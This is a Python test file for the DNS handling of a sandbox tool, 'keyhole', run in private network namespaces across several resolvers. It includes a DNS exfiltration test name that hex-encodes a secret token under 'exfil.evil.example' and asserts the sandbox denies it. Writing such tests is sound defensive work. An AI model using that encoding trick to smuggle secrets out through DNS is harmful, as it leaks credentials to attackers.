"""The child's DNS is answered by the supervisor (SPEC 3.1).

All runs happen in one private network and mount namespace
(dns_world.py): a fake upstream DNS server at the nameservers of the
bind-mounted resolv.conf (10.53.0.1, not on loopback, then 127.0.0.53)
counts every query by name.  keyhole asks it for the names it grants; the
sandboxed resolvers (glibc, Python, Node's c-ares, Go's pure resolver) get
their answers from the supervisor, from the address they asked, and the
fake server never sees one of their queries.
"""

import json
import os
import re
import shutil
import subprocess
import tempfile

import pytest

from conftest import free_port_number
from run_fixtures import Box, assert_no_sanitizer, Result

HERE = os.path.dirname(os.path.abspath(__file__))
WORLD = os.path.join(HERE, "dns_world.py")
PY = "/usr/bin/python3"
EXFIL = "6b6579686f6c652d7365637265742d746f6b656e2d31323334.a" \
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.exfil.evil.example"
MANY = 40


def netns_ok():
	try:
		return subprocess.run(["unshare", "--net", "--mount", "--",
		    "ip", "link", "set", "lo", "up"], capture_output=True,
		    timeout=10).returncode == 0
	except (OSError, subprocess.TimeoutExpired):
		return False


def run_world(box, cfg, runs, timeout):
	"""Run `runs` (name -> argv) in dns_world.py's private network and
	mount namespace as configured by cfg: each one's Result by name
	(checked for sanitizer reports), and the world's whole report."""
	cfgpath = box.write(box.path("world.json"), json.dumps(cfg))
	p = subprocess.run(["unshare", "--net", "--mount", "--", PY, WORLD,
	    cfgpath], capture_output=True, timeout=timeout)
	assert p.returncode == 0, p
	rep = json.loads(p.stdout.decode().strip().splitlines()[-1])
	out = {}
	for (name, argv), r in zip(runs.items(), rep["runs"]):
		res = Result(argv, r["rc"], r["stdout"], r["stderr"], r["secs"])
		assert_no_sanitizer(res)
		out[name] = res
	return out, rep


pytestmark = pytest.mark.skipif(not netns_ok(),
    reason="needs root: unshare --net --mount and ip(8)")

PYLOOKUP = r'''
import socket, sys, time
name = sys.argv[1]
t0 = time.monotonic()
try:
	r = socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)
	print("OK", " ".join(sorted({a[4][0] for a in r})))
except socket.gaierror as e:
	print("ERR", e.errno)
print("ms %.1f" % ((time.monotonic() - t0) * 1000))
'''

PYCONNECT = r'''
import socket, sys
s = socket.create_connection(("db.test", int(sys.argv[1])), timeout=5)
print(s.recv(64).decode().strip())
'''

NODE = r'''
const dns = require("dns");
dns.lookup("db.test", {all: true}, (err, addrs) => {
	console.log("lookup", err ? err.code : addrs.map(a => a.address).join(","));
	dns.resolve4("db.test", (err2, a2) => {
		console.log("resolve4", err2 ? err2.code : a2.join(","));
		dns.resolve4("nope.example", (err3) => {
			console.log("nope", err3 ? err3.code : "answered");
		});
	});
});
'''

GO = r'''
package main

import (
	"context"
	"fmt"
	"net"
	"strings"
)

func main() {
	r := &net.Resolver{PreferGo: true}
	a, err := r.LookupHost(context.Background(), "db.test")
	if err != nil {
		fmt.Println("ERR", err)
	} else {
		fmt.Println("OK", strings.Join(a, ","))
	}
	_, err = r.LookupHost(context.Background(), "nope.example")
	fmt.Println("nope", err != nil)
}
'''


# A query the way dig sends it: one A question, straight to the first
# nameserver of resolv.conf over UDP; no /etc/hosts, no libc.
RAWQ = r'''
import socket, struct, sys
name, qtype = sys.argv[1], {"A": 1, "AAAA": 28}[sys.argv[2]]
ns = [l.split()[1] for l in open("/etc/resolv.conf")
    if l.startswith("nameserver")][0]
q = struct.pack("!HHHHHH", 0x4b48, 0x0100, 1, 0, 0, 0)
for label in name.split("."):
	q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack("!HH", qtype, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.sendto(q, (ns, 53))
r, peer = s.recvfrom(4096)
rcode = struct.unpack("!H", r[2:4])[0] & 0xf
an = struct.unpack("!H", r[6:8])[0]
i = len(q)
out = []
for _ in range(an):
	i += 2		# the name: a pointer back to the question
	t, c, ttl, l = struct.unpack("!HHIH", r[i:i + 10])
	i += 10
	if t == 1:
		out.append(socket.inet_ntop(socket.AF_INET, r[i:i + 4]))
	elif t == 28:
		out.append(socket.inet_ntop(socket.AF_INET6, r[i:i + 16]))
	i += l
print("rcode", rcode, "from", peer[0], " ".join(out))
'''

NODEHOSTS = r'''
const dns = require("dns");
dns.resolve4("onlyhosts.test", (err, a) => {
	console.log("resolve4", err ? err.code : a.join(","));
	dns.resolve6("onlyhosts.test", (err2, a2) => {
		console.log("resolve6", err2 ? err2.code : a2.join(","));
		dns.resolve4("db.test", (err3, a3) => {
			console.log("db", err3 ? err3.code : a3.join(","));
		});
	});
});
'''

# Names only the world's /etc/hosts has (dns_world.py bind-mounts it).
HOSTS = "10.9.8.7 onlyhosts.test OnlyHostsAlias.test\nfd00::7 onlyhosts.test\n"


def build_go(d):
	if shutil.which("go") is None:
		return None
	src = os.path.join(d, "lookup.go")
	with open(src, "w") as f:
		f.write(GO)
	env = dict(os.environ, CGO_ENABLED="0", GOFLAGS="-mod=mod",
	    GOPROXY="off", GOCACHE=os.path.join(d, "gocache"),
	    GOPATH=os.path.join(d, "gopath"), HOME=d)
	out = os.path.join(d, "golookup")
	p = subprocess.run(["go", "build", "-o", out, src], env=env,
	    capture_output=True, timeout=240, cwd=d)
	assert p.returncode == 0, p
	return out


@pytest.fixture(scope="module")
def world(keyhole):
	box = Box(keyhole)
	port = free_port_number()
	rport = free_port_number()
	audit = box.path("audit.log")
	raudit = box.path("report-audit.log")
	for name, text in (("lookup.py", PYLOOKUP), ("connect.py", PYCONNECT),
	    ("dns.js", NODE), ("rawq.py", RAWQ), ("hosts.js", NODEHOSTS)):
		box.write(os.path.join(box.granted, name), text)
	gobin = build_go(box.granted)
	grants = ["--allow-domain", "db.test:%d" % port,
	    "--allow-domain", "many.test:%d" % port]
	for i in range(MANY):
		grants += ["--resolve", "many.test:%d:10.77.1.%d" % (port, i + 1)]
	proxy = [keyhole, "run", "--allow-cwd", "--audit-log", audit] + \
	    grants + ["--"]
	blocked = [keyhole, "run", "--allow-cwd", "--block-net", "--"]
	report = [keyhole, "run", "--allow-cwd", "--report-only",
	    "--allow-domain", "other.test", "--audit-log", raudit, "--"]
	runs = {
		"getent": proxy + ["getent", "hosts", "db.test"],
		"getent_exfil": proxy + ["getent", "hosts", EXFIL],
		"python": proxy + [PY, "lookup.py", "db.test"],
		"python_exfil": proxy + [PY, "lookup.py", EXFIL],
		"connect": proxy + [PY, "connect.py", str(port)],
		"node": proxy + ["node", "dns.js"],
		"many": proxy + ["getent", "ahostsv4", "many.test"],
		"localhost": proxy + [PY, "lookup.py", "localhost"],
		"blocked": blocked + [PY, "lookup.py", "db.test"],
		"blocked_hosts": blocked + [PY, "lookup.py", "localhost"],
		"hosts_raw": proxy + [PY, "rawq.py", "onlyhosts.test", "A"],
		"hosts_raw6": proxy + [PY, "rawq.py", "onlyhosts.test", "AAAA"],
		"hosts_raw_alias": proxy + [PY, "rawq.py",
		    "onlyhostsalias.test", "A"],
		"hosts_node": proxy + ["node", "hosts.js"],
		"blocked_raw": blocked + [PY, "rawq.py", "onlyhosts.test", "A"],
		"blocked_raw_other": blocked + [PY, "rawq.py", "db.test", "A"],
		"blocked_node": blocked + ["node", "hosts.js"],
		"blocked_getent": blocked + ["getent", "hosts",
		    "onlyhosts.test"],
		"report_connect": report + [PY, "connect.py", str(rport)],
		"report_raw": report + [PY, "rawq.py", "db.test", "A"],
	}
	if gobin is not None:
		runs["go"] = proxy + [gobin]
	env = box.env()
	cfg = {"dir": box.granted, "listeners": [["10.77.0.7", port],
	    ["10.77.0.7", rport]],
	    "hosts": HOSTS,
	    "runs": [{"argv": v, "env": env} for v in runs.values()]}
	out, rep = run_world(box, cfg, runs, 300)
	assert os.path.exists(audit), {k: (v.rc, v.out, v.err) for k, v in out.items()}
	with open(audit) as f:
		audit_lines = [json.loads(l) for l in f if l.strip()]
	with open(raudit) as f:
		raudit_lines = [json.loads(l) for l in f if l.strip()]
	yield {"runs": out, "seen": rep["seen"], "accepted": rep["accepted"],
	    "audit": audit_lines, "go": gobin is not None,
	    "report_audit": raudit_lines, "rport": rport}
	box.close()


def test_glibc_getent_gets_the_pinned_address(world):
	r = world["runs"]["getent"]
	assert r.rc == 0, r
	assert r.out.split() == ["10.77.0.7", "db.test"], r


def test_python_getaddrinfo_gets_only_the_pinned_address(world):
	r = world["runs"]["python"]
	assert r.out.splitlines()[0] == "OK 10.77.0.7", r


def test_tcp_client_connects_by_name_to_the_granted_listener(world):
	r = world["runs"]["connect"]
	assert r.rc == 0 and r.out.strip() == "hello", r
	assert world["accepted"][0] == 1


def test_node_lookup_and_resolve4_are_answered(world):
	r = world["runs"]["node"]
	lines = r.out.splitlines()
	assert "lookup 10.77.0.7" in lines, r
	assert "resolve4 10.77.0.7" in lines, r
	assert "nope ENOTFOUND" in lines, r


def test_go_pure_resolver_is_answered(world):
	if not world["go"]:
		pytest.skip("go is not installed")
	r = world["runs"]["go"]
	assert r.out.splitlines() == ["OK 10.77.0.7", "nope true"], r


def test_ungranted_name_is_nxdomain_at_once_and_never_leaves(world):
	r = world["runs"]["python_exfil"]
	lines = r.out.splitlines()
	assert lines[0] == "ERR -2", r		# EAI_NONAME: NXDOMAIN, not AGAIN
	assert float(lines[1].split()[1]) < 100, r
	g = world["runs"]["getent_exfil"]
	assert g.rc == 2 and g.out == "", g
	assert not any("exfil" in n for n in world["seen"]), world["seen"]
	assert not any("nope" in n for n in world["seen"]), world["seen"]
	denied = [a for a in world["audit"] if a.get("mode") == "dns"]
	assert denied and all(a.get("decision") == "deny" for a in denied)
	assert any(a.get("host") == EXFIL for a in denied), denied


def test_child_queries_never_reach_the_upstream(world):
	# The supervisor asks for what it grants; the child asked for
	# db.test many times and localhost, and none of it went upstream
	# beyond keyhole's own look-ups (at most a few per run).
	assert set(world["seen"]) <= {"db.test"}, world["seen"]


def test_large_answer_is_retried_over_tcp(world):
	r = world["runs"]["many"]
	assert r.rc == 0, r
	addrs = {l.split()[0] for l in r.out.splitlines()}
	assert addrs == {"10.77.1.%d" % (i + 1) for i in range(MANY)}, r


def test_localhost_resolves_to_loopback(world):
	r = world["runs"]["localhost"]
	assert r.out.splitlines()[0].startswith("OK 127.0.0.1"), r


def test_blocked_mode_lookup_fails_at_once_but_hosts_names_resolve(world):
	r = world["runs"]["blocked"]
	lines = r.out.splitlines()
	assert lines[0].startswith("ERR"), r
	assert float(lines[1].split()[1]) < 1000, r
	h = world["runs"]["blocked_hosts"]
	assert h.out.splitlines()[0].startswith("OK 127.0.0.1"), h


def test_hosts_only_name_is_answered_to_a_raw_query_in_proxy_mode(world):
	"""A resolver that asks the nameserver itself (dig, c-ares) gets what
	/etc/hosts says, from the address it asked."""
	r = world["runs"]["hosts_raw"]
	assert r.rc == 0 and r.out.split() == ["rcode", "0", "from",
	    "10.53.0.1", "10.9.8.7"], r
	r = world["runs"]["hosts_raw6"]
	assert r.out.split() == ["rcode", "0", "from", "10.53.0.1",
	    "fd00::7"], r
	# Names compare without case, aliases included.
	r = world["runs"]["hosts_raw_alias"]
	assert r.out.split() == ["rcode", "0", "from", "10.53.0.1",
	    "10.9.8.7"], r


def test_hosts_only_name_is_answered_to_node_resolve4_in_proxy_mode(world):
	r = world["runs"]["hosts_node"]
	lines = r.out.splitlines()
	assert "resolve4 10.9.8.7" in lines, r
	assert "resolve6 fd00::7" in lines, r
	assert "db 10.77.0.7" in lines, r


def test_blocked_mode_answers_hosts_names_and_nothing_else(world):
	r = world["runs"]["blocked_raw"]
	assert r.rc == 0 and r.out.split() == ["rcode", "0", "from",
	    "10.53.0.1", "10.9.8.7"], r
	r = world["runs"]["blocked_raw_other"]
	assert r.out.split() == ["rcode", "3", "from", "10.53.0.1"], r
	r = world["runs"]["blocked_node"]
	lines = r.out.splitlines()
	assert "resolve4 10.9.8.7" in lines, r
	assert "resolve6 fd00::7" in lines, r
	assert "db ENOTFOUND" in lines, r
	r = world["runs"]["blocked_getent"]
	assert r.rc == 0 and r.out.split()[1] == "onlyhosts.test", r


def test_hosts_names_never_reach_the_upstream(world):
	assert not any("onlyhosts" in n for n in world["seen"]), world["seen"]


def test_report_only_resolves_a_name_not_granted_and_audits_it(world):
	"""--report-only (SPEC 4.11) allows what would be denied: a name not
	granted is resolved by the supervisor (not NXDOMAIN, which would break
	the program being observed), audited would_deny with mode dns, and
	the connect to its address is suggested by the name."""
	r = world["runs"]["report_connect"]
	assert r.rc == 0 and r.out.strip() == "hello", r
	assert world["accepted"][1] == 1
	rport = world["rport"]
	assert "--allow-domain db.test:%d" % rport in r.err, r
	# Never suggested for the lookup itself (port 53); the port above may
	# begin with 53, so the flag is matched whole.
	assert not re.search(r"db\.test:53\b", r.err), r
	recs = world["report_audit"]
	dns = [a for a in recs if a.get("mode") == "dns"]
	assert dns and all(a["decision"] == "would_deny" and
	    a["host"] == "db.test" for a in dns), recs
	direct = [(a["host"], a["port"], a["decision"]) for a in recs
	    if a.get("mode") == "direct"]
	assert direct == [("db.test", rport, "would_deny")], recs
	r = world["runs"]["report_raw"]
	assert r.out.split() == ["rcode", "0", "from", "10.53.0.1",
	    "10.77.0.7"], r


def test_unprivileged_user_gets_answers_through_a_user_namespace(keyhole):
	"""As an ordinary user the helper makes its network namespace inside
	a user namespace (where the kernel allows it)."""
	if os.geteuid() != 0 or shutil.which("setpriv") is None:
		pytest.skip("needs root and setpriv to become nobody")
	userns = "/proc/sys/user/max_user_namespaces"
	if os.path.exists(userns) and open(userns).read().strip() == "0":
		pytest.skip("user namespaces are off on this kernel")
	d = tempfile.mkdtemp(prefix="dns-nobody-")
	try:
		os.chmod(d, 0o777)
		work = os.path.join(d, "w")
		os.mkdir(work)
		os.chmod(work, 0o777)
		p = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534",
		    "--clear-groups", "env", "HOME=" + d, "PATH=/usr/bin:/bin",
		    keyhole, "run", "--allow-cwd", "--allow-domain",
		    "db.test:5432", "--resolve", "db.test:5432:127.0.0.1", "--",
		    "getent", "hosts", "db.test"], capture_output=True,
		    cwd=work, timeout=60)
		err = p.stderr.decode()
		res = Result(p.args, p.returncode, p.stdout.decode(), err, 0)
		assert_no_sanitizer(res)
		assert "cannot be answered" not in err, res
		assert p.returncode == 0 and res.out.split() == ["127.0.0.1",
		    "db.test"], res
	finally:
		shutil.rmtree(d, ignore_errors=True)
